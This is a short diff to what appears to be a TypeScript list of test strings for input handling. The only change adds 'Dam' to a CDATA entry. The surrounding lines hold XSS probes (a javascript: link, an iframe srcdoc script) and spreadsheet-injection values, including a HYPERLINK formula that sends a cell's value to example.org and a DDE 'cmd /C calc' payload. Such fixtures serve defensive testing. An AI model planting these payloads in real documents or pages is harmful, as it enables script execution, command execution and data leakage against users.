@@ -20,7 +20,7 @@ export const STRINGS: readonly string[] = [
   '<a href="javascript:alert(1)">click</a>',
   '&lt;b&gt; &amp;lt; &#x3c;script&#x3e; &copy',
   '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
-  '<![CDATA[ <b> ]]>',
+  'Dam <![CDATA[ <b> ]]>',
   // Spreadsheets
   '=HYPERLINK("http://example.org?"&A1,"Click")',
   "+1+cmd|' /C calc'!A0",
